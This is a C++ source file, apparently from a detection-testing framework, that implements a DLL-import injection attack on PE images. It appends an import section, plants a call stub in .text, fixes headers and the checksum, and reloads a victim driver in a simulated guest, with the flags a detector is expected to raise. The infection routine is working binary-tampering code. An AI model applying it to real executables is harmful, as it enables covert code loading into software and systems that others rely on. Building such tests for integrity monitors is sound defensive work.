#include "attacks/dll_import_inject.hpp"

#include "attacks/guest_writer.hpp"
#include "pe/builder.hpp"
#include "pe/constants.hpp"
#include "pe/imports.hpp"
#include "pe/mapper.hpp"
#include "pe/parser.hpp"
#include "util/error.hpp"
#include "x86/decoder.hpp"

namespace mc::attacks {

namespace {
constexpr std::uint32_t kDescriptorSize = 20;

/// Builds the replacement import section: descriptors for all old DLLs
/// (pointing at their original thunk arrays) plus the injected DLL with
/// fresh INT/IAT/hint-name/name data laid out after the descriptor array.
/// Returns the section bytes; `descriptors_size` and the injected IAT slot
/// RVA are written to the out-params.
Bytes build_injected_imports(const std::vector<pe::ParsedImportDll>& old_dlls,
                             const std::string& dll_name,
                             const std::string& function_name,
                             std::uint32_t section_rva,
                             std::uint32_t* descriptors_size,
                             std::uint32_t* new_iat_slot_rva) {
  const auto desc_bytes =
      static_cast<std::uint32_t>((old_dlls.size() + 2) * kDescriptorSize);
  const std::uint32_t int_off = desc_bytes;          // 2 entries * 4
  const std::uint32_t iat_off = int_off + 8;         // 2 entries * 4
  const std::uint32_t hint_off = iat_off + 8;
  std::uint32_t hint_len =
      2 + static_cast<std::uint32_t>(function_name.size()) + 1;
  hint_len = (hint_len + 1) & ~1u;
  const std::uint32_t name_off = hint_off + hint_len;

  Bytes out;
  // Old descriptors, verbatim references to their original arrays.
  for (const auto& dll : old_dlls) {
    append_le32(out, dll.original_first_thunk_rva);
    append_le32(out, 0);
    append_le32(out, 0);
    append_le32(out, dll.name_rva);
    append_le32(out, dll.first_thunk_rva);
  }
  // Injected descriptor.
  append_le32(out, section_rva + int_off);
  append_le32(out, 0);
  append_le32(out, 0);
  append_le32(out, section_rva + name_off);
  append_le32(out, section_rva + iat_off);
  // Terminator.
  for (int i = 0; i < 5; ++i) {
    append_le32(out, 0);
  }
  // INT + IAT (both initially the hint/name RVA).
  append_le32(out, section_rva + hint_off);
  append_le32(out, 0);
  append_le32(out, section_rva + hint_off);
  append_le32(out, 0);
  // Hint/name.
  append_le16(out, 0);
  for (const char c : function_name) {
    out.push_back(static_cast<std::uint8_t>(c));
  }
  out.push_back(0);
  if (out.size() % 2 != 0) {
    out.push_back(0);
  }
  // DLL name.
  for (const char c : dll_name) {
    out.push_back(static_cast<std::uint8_t>(c));
  }
  out.push_back(0);

  *descriptors_size = desc_bytes;
  *new_iat_slot_rva = section_rva + iat_off;
  return out;
}

}  // namespace

Bytes DllImportInjectAttack::infect_file(ByteView pe_file,
                                         const std::string& dll_name,
                                         const std::string& function_name) {
  const Bytes mapped = pe::map_image(pe_file);
  // Attacker's-eye parse of the victim image; mc-lint: allow(format-bypass)
  const pe::ParsedImage parsed{ByteView(mapped)};
  const pe::DosHeader& dos = parsed.dos();
  const pe::FileHeader& fh = parsed.file_header();
  const pe::OptionalHeader32& opt = parsed.optional_header();

  std::vector<pe::ParsedImportDll> old_dlls;
  const auto& import_dir = opt.DataDirectories[pe::kDirImport];
  if (import_dir.VirtualAddress != 0) {
    old_dlls = pe::parse_import_directory(mapped, import_dir.VirtualAddress);
  }

  // New section appended at the current end of the image.
  const std::uint32_t inj_rva = opt.SizeOfImage;
  std::uint32_t descriptors_size = 0;
  std::uint32_t new_iat_slot_rva = 0;
  const Bytes inj_data =
      build_injected_imports(old_dlls, dll_name, function_name, inj_rva,
                             &descriptors_size, &new_iat_slot_rva);

  Bytes file(pe_file.begin(), pe_file.end());

  // --- header-table slack check & new section header -------------------------
  const std::uint32_t section_table_off = static_cast<std::uint32_t>(
      dos.e_lfanew + pe::kNtHeadersPrefixSize + fh.SizeOfOptionalHeader);
  const std::uint32_t new_header_off =
      section_table_off +
      fh.NumberOfSections * static_cast<std::uint32_t>(pe::kSectionHeaderSize);
  MC_CHECK(new_header_off + pe::kSectionHeaderSize <= opt.SizeOfHeaders,
           "no slack in header area for an extra section header");

  const std::uint32_t raw_ptr = align_up(
      static_cast<std::uint32_t>(file.size()), pe::kDefaultFileAlignment);
  file.resize(raw_ptr, 0);
  pe::SectionHeader inj_header;
  inj_header.set_name(".inj");
  inj_header.VirtualSize = static_cast<std::uint32_t>(inj_data.size());
  inj_header.VirtualAddress = inj_rva;
  inj_header.SizeOfRawData = align_up(
      static_cast<std::uint32_t>(inj_data.size()), pe::kDefaultFileAlignment);
  inj_header.PointerToRawData = raw_ptr;
  inj_header.Characteristics =
      pe::kScnCntInitializedData | pe::kScnMemRead | pe::kScnMemWrite;
  {
    Bytes header_bytes;
    inj_header.serialize(header_bytes);
    std::copy(header_bytes.begin(), header_bytes.end(),
              file.begin() + new_header_off);
  }
  file.insert(file.end(), inj_data.begin(), inj_data.end());
  file.resize(raw_ptr + inj_header.SizeOfRawData, 0);

  // --- .text: append a call through the new IAT slot --------------------------
  // The stub goes into the section's raw-alignment slack past VirtualSize,
  // and VirtualSize grows to make it "visible" — the paper's observation.
  // (A sloppy injector: the absolute IAT-slot operand gets no .reloc entry,
  // so it is only correct at the preferred base.  Detection-wise the bytes
  // differ either way.)
  const pe::SectionHeader* text = parsed.find_section(".text");
  MC_CHECK(text != nullptr, "image has no .text section");
  std::uint8_t stub[6] = {0xFF, 0x15, 0, 0, 0, 0};
  store_le32(MutableByteView(stub, 6), 2, opt.ImageBase + new_iat_slot_rva);
  MC_CHECK(text->VirtualSize + sizeof stub <= text->SizeOfRawData,
           "no raw slack in .text for call stub");
  const std::uint32_t stub_file_off = text->PointerToRawData + text->VirtualSize;
  std::copy(stub, stub + sizeof stub,
            file.begin() + stub_file_off);

  // Grow .text VirtualSize in its section header.
  std::uint32_t text_header_off = section_table_off;
  for (std::uint16_t i = 0; i < fh.NumberOfSections; ++i) {
    const auto sh = pe::SectionHeader::parse(file, text_header_off);
    if (sh.name() == ".text") {
      break;
    }
    text_header_off += pe::kSectionHeaderSize;
  }
  store_le32(file, text_header_off + 8,
             text->VirtualSize + static_cast<std::uint32_t>(sizeof stub));

  // --- FILE header: section count + tool re-stamp ------------------------------
  store_le16(file, dos.e_lfanew + 4 + 2,
             static_cast<std::uint16_t>(fh.NumberOfSections + 1));
  store_le32(file, dos.e_lfanew + 4 + 4, fh.TimeDateStamp + 0x1000);

  // --- OPTIONAL header: import directory, sizes, checksum ----------------------
  const std::uint32_t opt_off =
      dos.e_lfanew + static_cast<std::uint32_t>(pe::kNtHeadersPrefixSize);
  store_le32(file, opt_off + 56,
             inj_rva + align_up(inj_header.VirtualSize,
                                pe::kDefaultSectionAlignment));  // SizeOfImage
  store_le32(file, opt_off + 8,
             opt.SizeOfInitializedData + inj_header.SizeOfRawData);
  store_le32(file, opt_off + 96 + 8 * pe::kDirImport, inj_rva);
  store_le32(file, opt_off + 100 + 8 * pe::kDirImport, descriptors_size);
  // Tool writes a fresh valid checksum.
  store_le32(file, opt_off + 64, 0);
  const std::uint32_t checksum = pe::compute_pe_checksum(file, opt_off + 64);
  store_le32(file, opt_off + 64, checksum);

  return file;
}

AttackResult DllImportInjectAttack::apply(cloud::CloudEnvironment& env,
                                          vmm::DomainId vm,
                                          const std::string& module) const {
  // The attacker first loads the payload DLL into the guest, then reloads
  // the victim driver with the injected import referencing it.
  if (env.loader(vm).find("inject.dll") == nullptr) {
    env.write_disk_file(vm, "inject.dll",
                        Bytes(env.golden().file("inject.dll")));
    env.loader(vm).load("inject.dll", env.golden().file("inject.dll"));
  }
  const Bytes infected =
      infect_file(env.golden().file(module), "inject.dll", "callMessageBox");
  reload_with_infected_file(env, vm, module, infected);

  AttackResult result;
  result.attack_name = name();
  result.description =
      "inject.dll!callMessageBox attached to " + module +
      " via rebuilt import table in appended section; .text call stub added";
  result.expected_flagged = {"IMAGE_NT_HEADER", "IMAGE_OPTIONAL_HEADER",
                             "SECTION_HEADER[.text]", "SECTION_HEADER[.inj]",
                             ".text"};
  result.infects_disk_file = true;
  return result;
}

}  // namespace mc::attacks
